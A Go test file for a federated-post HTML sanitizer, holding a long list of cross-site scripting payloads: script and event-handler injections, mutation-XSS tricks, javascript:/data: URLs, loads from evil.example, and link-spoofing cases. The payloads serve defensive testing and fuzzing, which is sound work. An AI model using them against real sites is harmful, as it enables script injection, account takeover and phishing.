package federation

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// writtenElements is what may ever be written, stated apart from the policy that is under test.
func writtenElements() []string {
	return []string{
		"p", "br", "hr", "a", "strong", "em", "b", "i", "u", "del", "s", "code", "sub", "sup", "pre", "blockquote", "ul", "ol", "li",
		"h3", "h4", "h5", "h6", "span", "ruby", "rt", "rp",
	}
}

// checkSafe parses out the way a browser does and fails unless the tree holds only what is allowed and is exactly the tree that was
// written: a browser had nothing to repair or move.
func checkSafe(t *testing.T, out string) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		t.Fatalf("cannot be parsed: %v\n%.500s", err, out)
	}
	var again bytes.Buffer
	for _, n := range nodes {
		checkNode(t, n, out)
		if err := html.Render(&again, n); err != nil {
			t.Fatal(err)
		}
	}
	if got := strings.NewReplacer("<br/>", "<br>", "<hr/>", "<hr>").Replace(again.String()); got != out {
		t.Fatalf("a browser would build another tree\nwritten: %.2000s\nbuilt:   %.2000s", out, got)
	}
}

func checkNode(t *testing.T, n *html.Node, out string) {
	t.Helper()
	switch n.Type {
	case html.TextNode:
		if strings.ContainsFunc(n.Data, isHidden) {
			t.Fatalf("hidden characters in %.300q", out)
		}
	case html.ElementNode:
		if !slices.Contains(writtenElements(), n.Data) || n.Namespace != "" {
			t.Fatalf("element %q (namespace %q) in %.500s", n.Data, n.Namespace, out)
		}
		for _, a := range n.Attr {
			checkAttr(t, n.Data, a, out)
		}
	default:
		t.Fatalf("node of type %d in %.500s", n.Type, out)
	}
	for c := range n.ChildNodes() {
		checkNode(t, c, out)
	}
}

func checkAttr(t *testing.T, element string, a html.Attribute, out string) {
	t.Helper()
	ok := false
	switch element + " " + a.Key {
	case "a href":
		ok = strings.HasPrefix(a.Val, "https://") || strings.HasPrefix(a.Val, "http://")
	case "a rel":
		ok = a.Val == "nofollow noopener noreferrer ugc"
	case "a class", "span class":
		ok = true
		for _, c := range strings.Fields(a.Val) {
			ok = ok && slices.Contains([]string{"mention", "hashtag", "ellipsis", "invisible"}, c)
		}
	case "li value":
		ok = strings.Trim(a.Val, "-0123456789") == ""
	}
	if !ok || a.Namespace != "" {
		t.Fatalf("attribute %s=%q on %s in %.500s", a.Key, a.Val, element, out)
	}
}

// attackVectors are fragments that have run scripts, opened frames, fetched from afar or broken out of their place somewhere, and
// systematic variants of them.
func attackVectors() []string {
	v := []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/src=data:,alert(1)>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script>alert(1)`, `<script><!--<script>alert(1)</script>-->`,
		"<script\x0c>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", `<ſcript>alert(1)</ſcript>`, `<scrİpt>alert(1)</scrİpt>`,
		`</script><img src=x onerror=alert(1)>`, `"><svg onload=alert(1)>`, `'><img src=x onerror=alert(1)>`,
		`<img src=x onerror=alert(1)//`, `<img src="x" onerror="alert(1)"`, `<img/src=x/onerror=alert(1)>`,
		"<img src=x\nonerror\n=\nalert(1)>", `<img src=x onerror=&#97;lert(1)>`, "<img src=`x`onerror=alert(1)>",
		`<image src=x onerror=alert(1)>`, `<img srcset="//evil.example/a 1x">`, `<picture><source srcset=//evil.example/a></picture>`,
		`<svg><script>alert(1)</script></svg>`, `<svg/onload=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x></svg>#x">`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><foreignObject><script>alert(1)</script></foreignObject></svg>`,
		`<svg><set attributeName=href to=javascript:alert(1)>`, `<svg><title><a id="</title><img src=x onerror=alert(1)>">`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><p><style><!--</style><img src=x onerror=alert(1)>-->`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
		`<math><a xlink:href=javascript:alert(1)>x</a></math>`, `<math href="javascript:alert(1)">x</math>`,
		`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<math><mi/><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<noscript><style></noscript><img src=x onerror=alert(1)>`,
		`<template><script>alert(1)</script></template>`, `<template><img src=x onerror=alert(1)>`, `<template></template></template><b>x`,
		`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<title><a id="</title><img src=x onerror=alert(1)>">`,
		`<style>@import url(//evil.example/x.css);</style>`, `<style><img title="</style><img src=x onerror=alert(1)>">`,
		`<xmp><p title="</xmp><svg/onload=alert(1)>">`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<plaintext><img src=x onerror=alert(1)>`,
		`<noembed><img title="</noembed><img src=x onerror=alert(1)>">`, `<noframes><p title="</noframes><svg/onload=alert(1)>">`,
		`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe>x</iframe><b>after`,
		`</iframe><iframe>x</iframe><b>after</b>`, `<frameset onload=alert(1)><frame src=//evil.example>`, `<portal src=//evil.example>`,
		`<object data="javascript:alert(1)"></object>`, `<object type=text/html data=//evil.example>`, `<embed src="javascript:alert(1)">`,
		`<applet code=x>`, `<base href="//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=prefetch href=//evil.example>`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta charset=utf-7>+ADw-script+AD4-alert(1)`, `<meta name=referrer content=unsafe-url>`,
		`<form action="javascript:alert(1)"><input type=submit></form>`, `<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>`,
		`<input autofocus onfocus=alert(1)>`, `<isindex action=javascript:alert(1) type=image>`, `<select autofocus onfocus=alert(1)>`,
		`<keygen autofocus onfocus=alert(1)>`, `<video src=x onerror=alert(1)>`, `<video><source onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`,
		`<video poster=javascript:alert(1)>`, `<track src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<dialog open onclose=alert(1)>`,
		`<marquee onstart=alert(1)>x</marquee>`, `<bgsound src=javascript:alert(1)>`, `<body onload=alert(1)>`, `<html onclick=alert(1)>`,
		`<table background=javascript:alert(1)><td background=x>y</table>`, `<table><tr><td><a href=javascript:alert(1)>x</table>`,
		`<div style="background:url(javascript:alert(1))">x</div>`, `<p style="position:fixed;inset:0">x</p>`, `<div style=width:expression(alert(1))>`,
		`<b style="behavior:url(x.htc)">x</b>`, `<xss style="-moz-binding:url(//evil.example/x)">`, `<font style='x:1;color:red'>x</font>`,
		`<x onclick=alert(1) tabindex=1 id=x>x`, `<custom-element onmouseover=alert(1)>x</custom-element>`, `<a id=x tabindex=1 onfocus=alert(1)>x</a>`,
		`<?xml version="1.0"?><script>alert(1)</script>`, `<!DOCTYPE html [<!ENTITY x "<script>">]>&x;`, `<![CDATA[<script>alert(1)</script>]]>`,
		`<!--><img src=x onerror=alert(1)>-->`, `<!--!><img src=x onerror=alert(1)>-->`, `<!-- --!><img src=x onerror=alert(1)> -->`,
		`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<//img src=x onerror=alert(1)>`, `<%img src=x onerror=alert(1)>`, `</a onclick=alert(1)>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&#x3c;script&#x3e;`, "&#0000060script>",
		`&lt;img src=x onerror=alert(1)&gt;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `+ADw-script+AD4-`, "\u2028<script>alert(1)</script>\u2029",
		`＜script＞alert(1)＜/script＞`, `<a href="https://a.example/" onclick="alert(1)">x</a>`, `<a href='https://a.example/"onclick="alert(1)'>x</a>`,
		`<a href="https://a.example/' onclick='alert(1)">x</a>`, "<a href=https://a.example/`onclick=alert(1)>x</a>", `<a href="//evil.example/">x</a>`,
		`<a href="/logout">x</a>`, `<a href="?delete=1">x</a>`, `<a href="#top">x</a>`, `<a href="">x</a>`, `<a href>x</a>`, `<a>x</a>`,
		`<a href="https://a.example/" target=_top>x</a>`, `<a href="https://a.example/" rel=opener download ping=//evil.example>x</a>`,
		`<a href="https://a.example/" style="position:fixed;inset:0">x</a>`, `<a href="https://a.example/" id=admin name=cookie>x</a>`,
		`<a href="https://a.example/" href="javascript:alert(1)">x</a>`, `<a href="javascript:alert(1)" href="https://a.example/">x</a>`,
		`<a href=https://a.example/><a href=javascript:alert(1)>x</a></a>`, `<a xlink:href="javascript:alert(1)">x</a>`,
		`<a href="https://a.example/"><table><a href="https://b.example/">x</a></table></a>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`,
		`<q cite="javascript:alert(1)">x</q>`, `<del cite="javascript:alert(1)">x</del>`, `<ol start=1 type=javascript:alert(1)><li value="1 onclick=x">x</ol>`,
		`<li value="99999999999999999999">x`, `<span class="invisible btn-delete modal">hidden</span>`, `<a class="invisible" href="https://a.example/">x</a>`,
		`<p class="toast" id="csrf" name="token" data-action="delete">x</p>`, `<p contenteditable autofocus onfocus=alert(1)>x</p>`, `<p is="x-y" slot=s part=p>x</p>`,
		`</div></div></main></body></html><h1>outside</h1>`, `<p>unclosed <b>bold <i>both <blockquote>deep <a href="https://a.example/">link`,
		`<b><p>one</b>two</p>three`, `<p><ul></p><li>x</ul></p>`, `<ul><p><li><p></ul></li></p>`, `<ruby>a<rt>b<rt>c<rp>d</ruby></rt>e`, `<rt>alone</rt>`,
		`<li>alone</li>`, `<ul><ul><ul><li><li><li>`, `<h1><h2><h3>x</h1></h2></h3>`, `<pre><p>x</pre></p>`, "<pre>\n\n\nx</pre>", `<hr><p><hr></p>`, `<br><br/></br>`,
		`<p><div><p>x</div></p>`, `<b><i><u><s></b></u></i></s>x`, `<a href="https://a.example/"><p>x</p></a>y`, `<p><table><p>x</table>y`, `</p></b></a></ul></li>`,
		strings.Repeat("<blockquote>", 600) + "x", strings.Repeat("<b>", 600) + "x" + strings.Repeat("</b>", 600) + "y", strings.Repeat("<ul><li>", 300) + "x",
		strings.Repeat("<div><p>", 300) + "x", strings.Repeat("<a href=https://a.example/>", 100) + "x", strings.Repeat("<ruby><rt>", 100) + "x",
	}
	schemes := []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
		"java\rscript:alert(1)", "java&#09;script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert(1)",
		"&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "\x01javascript:alert(1)", "\u00a0javascript:alert(1)",
		"\u200bjavascript:alert(1)", "javascript://a.example/%0aalert(1)", "javascript:https://a.example/", "vbscript:msgbox(1)", "livescript:x", "mocha:x",
		"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd",
		"ftp://a.example/", "blob:https://a.example/x", "filesystem:https://a.example/x", "view-source:https://a.example/", "jar:https://a.example/!x",
		"intent://a.example#Intent;scheme=x;end", "tel:+1900", "sms:+1900", "mailto:x@a.example", "magnet:?xt=x", "web+ap://a.example/", "feed:javascript:alert(1)",
		"https:alert(1)", "https:///evil", "http://", "https://good.example@evil.example/", "https://good.example\\@evil.example/", "\\\\evil.example", "//evil.example",
		"https://[::1", "https://a.example:x/", "https://a.example/\u202egpj.exe", "https://%65vil.example/", "https://a.example/ onclick=alert(1)",
	}
	for _, s := range schemes {
		v = append(v, fmt.Sprintf(`<a href="%s">x</a>`, s), fmt.Sprintf(`<img src="%s">`, s), fmt.Sprintf(`<p><a class=mention href='%s'>@x</a>`, s))
	}
	for _, e := range []string{"a", "p", "b", "span", "li", "br", "blockquote", "div", "td", "h1", "pre", "img", "svg", "x"} {
		for _, h := range []string{"onclick", "ONMOUSEOVER", "onfocus autofocus", "onanimationstart", "onpointerenter"} {
			v = append(v, fmt.Sprintf(`<%s %s=alert(1)>x`, e, h), fmt.Sprintf(`<%s/%s="alert(1)">x</%s>`, e, h, e))
		}
	}
	return v
}

func TestSanitizeHTMLAttacks(t *testing.T) {
	t.Run("HTM-01 HTM-02 HTM-03", func(t *testing.T) {
		vectors := attackVectors()
		if len(vectors) < 400 {
			t.Fatalf("only %d vectors", len(vectors))
		}
		s := newSanitizer()
		for i, v := range vectors {
			for _, doc := range []string{v, "<p>before " + v + " after</p>", "<ul><li><b>" + v, v + v, "<svg>" + v, "<math><mtext>" + v, "<table>" + v} {
				out := s.sanitizeHTML(doc)
				checkSafe(t, out)
				if again := s.sanitizeHTML(out); again != out {
					t.Errorf("vector %d is not stable:\n%.500s\n%.500s\n%.500s", i, doc, out, again)
				}
			}
		}
	})
}

const rel = ` rel="nofollow noopener noreferrer ugc"`

func TestSanitizeHTML(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"text", `a < b & "c"`, `a &lt; b &amp; &#34;c&#34;`},
		{"paragraphs", `<p>one</p><p>two<br/>three</p>`, `<p>one</p><p>two<br>three</p>`},
		{
			"mention", `<p><span class="h-card" translate="no"><a href="https://g.example/g/books" class="u-url mention">@<span>books</span></a></span> hi</p>`,
			`<p><a class="mention" href="https://g.example/g/books"` + rel + `>@books</a> hi</p>`,
		},
		{
			"long link", `<a href="https://www.a.example/long/path" target="_blank"><span class="invisible">https://www.</span><span class="ellipsis">a.example/long</span><span class="invisible">/path</span></a>`,
			`<a href="https://www.a.example/long/path"` + rel + `><span class="invisible">https://www.</span><span class="ellipsis">a.example/long</span><span class="invisible">/path</span></a>`,
		},
		{"headings", `<h1>a</h1><h2>b</h2><h4>c</h4>`, `<h3>a</h3><h3>b</h3><h4>c</h4>`},
		{"lists", `<ol><li value="3">a<li>b<ul><li>c</ul></ol>`, `<ol><li value="3">a</li><li>b<ul><li>c</li></ul></li></ol>`},
		{"ruby", `<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>`, `<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>`},
		{"code", "<pre><code>if a &lt; b {\n\tx()\n}</code></pre>", "<pre><code>if a &lt; b {\n\tx()\n}</code></pre>"},
		{
			"image becomes a link", `<p>x <img src="https://a.example/t.gif" alt="y"></p>`,
			`<p>x <a href="https://a.example/t.gif" rel="nofollow noopener noreferrer ugc">Image: y</a></p>`,
		},
		{"words stay apart", `<div>a</div><div>b</div>c`, `<p>a</p><p>b</p><p>c</p>`},
		{"cells stay apart", `<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>`, `<p>a b </p><p>c </p>`},
		{"everything is closed", `<blockquote><p>a <b>b`, `<blockquote><p>a <b>b</b></p></blockquote>`},
		{"stray ends", `a</div></b></p>b`, `a<p>b</p>`},
		{"empty elements", `<p></p>a<p><b></b></p>b`, `<p>a</p><p>b</p>`},
		{"direction", "a\u202egpj.exe", "agpj.exe"},
		{"marks", "e" + strings.Repeat("\u0301", 50), "e" + strings.Repeat("\u0301", maxMarks)},
		{"marks across tags", "e\u0301\u0301\u0301<b>\u0301\u0301\u0301\u0301\u0301</b>", "e\u0301\u0301\u0301<b>\u0301\u0301\u0301</b>"},
		{"hidden words", `<span class="invisible">psst</span>`, `psst`},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got := newSanitizer().sanitizeHTML(test.in)
			if got != test.want {
				t.Errorf("got  %s\nwant %s", got, test.want)
			}
			checkSafe(t, got)
		})
	}
}

// TestLinkWords: the words of a link must not name another host than it leads to (Mastodon CVE-2023-36462).
func TestLinkWords(t *testing.T) {
	t.Run("ORG-13", func(t *testing.T) {
		const evil = "https://evil.example/login"
		tests := []struct{ words, shown string }{
			{"https://bank.example/", evil},
			{"https://bank.example", evil},
			{"bank.example", evil},
			{"www.bank.example/login", evil},
			{"BANK.example/login", evil},
			{" bank.example ", evil},
			{"go to https://bank.example now", evil},
			{"https://evil.example@bank.example/", evil},
			{"https://bank.example@evil.example/", evil},
			{"https://bank.example\\.evil.example/", evil},
			{"https://bank.example:8443/", evil},
			{"bank.<b>example</b>", evil},
			{`<span class="invisible">https://evil.example/</span>bank.example/login`, evil},
			{`bank.example<span class="invisible">.evil.example</span>`, evil},
			{`<span class="invisible">https://www.</span><span class="ellipsis">bank.example/l</span>`, evil},
			{"bank.example…", evil},
			{"evil.example", "evil.example"},
			{"https://evil.example/other", "https://evil.example/other"},
			{"http://www.evil.example", "http://www.evil.example"},
			{"my bank", "my bank"},
			{"@ann@bank.example", "@ann@bank.example"},
			{"version 3.5", "version 3.5"},
			{"3.5", "3.5"},
			{"etc.", "etc."},
		}
		for _, test := range tests {
			out := newSanitizer().sanitizeHTML(`<a href="` + evil + `">` + test.words + `</a>`)
			if got := plainText(out); got != test.shown {
				t.Errorf("%q is shown as %q, want %q", test.words, got, test.shown)
			}
			checkSafe(t, out)
		}
		if out := newSanitizer().sanitizeHTML(`<a href="https://www.a.example/x">a.example/x</a> <a href="https://b.a.example/">a.example</a>`); plainText(out) != "a.example/x a.example" {
			t.Errorf("honest links are rewritten: %s", out)
		}
	})
}

// tiresome are pieces that make careless parsers quadratic when there are many of them.
func tiresome() []string {
	return []string{"<a ", "<a <a", "&#", "&#&#", "(", "@a", "<b>", "<p>", "</p>", "<ul><li>", "<!--", "<![CDATA[", "<a href=https://a.example/>x", "<img src=https://a.example/>", "'", "<svg><style>", "e\u0301", "x"}
}

// BenchmarkSanitizeTiresome shows whether any of them costs more than its bytes: the rates must be alike.
func BenchmarkSanitizeTiresome(b *testing.B) {
	s := newSanitizer()
	for _, unit := range tiresome() {
		doc := strings.Repeat(unit, 1<<20/len(unit))
		b.Run(unit, func(b *testing.B) {
			b.SetBytes(int64(len(doc)))
			for b.Loop() {
				s.sanitizeHTML(doc)
				plainText(doc)
			}
		})
	}
}

// TestSanitizeTiresome would run into the time limit of all tests if one of them were quadratic.
func TestSanitizeTiresome(t *testing.T) {
	t.Run("PAY-06", func(t *testing.T) {
		s := newSanitizer()
		for _, unit := range tiresome() {
			doc := strings.Repeat(unit, 1<<20/len(unit))
			out := s.sanitizeHTML(doc)
			text := plainText(doc)
			if len(out) > maxHTMLIn || len(text) > maxHTMLIn {
				t.Errorf("%q: %d and %d bytes came out", unit, len(out), len(text))
			}
			checkSafe(t, out)
			if s.sanitizeHTML(out) != out {
				t.Errorf("%q is not stable", unit)
			}
		}
	})
}

func TestBreakElementsAgree(t *testing.T) {
	for _, name := range breakElements() {
		if blockOf(name) != breakElement {
			t.Errorf("%s passes the policy but tidy does not know it", name)
		}
	}
}

func TestPlainToHTML(t *testing.T) {
	got := plainToHTML("one <b>\r\ntwo\r\n\r\n\r\n3 & 4\n")
	if want := "<p>one &lt;b&gt;<br>two</p><p>3 &amp; 4</p>"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}

func FuzzSanitizeHTML(f *testing.F) {
	for _, v := range attackVectors()[:150] {
		f.Add(v)
	}
	s := newSanitizer()
	f.Fuzz(func(t *testing.T, doc string) {
		out := s.sanitizeHTML(doc)
		checkSafe(t, out)
		if again := s.sanitizeHTML(out); again != out {
			t.Fatalf("not stable:\n%q\n%q", out, again)
		}
	})
}
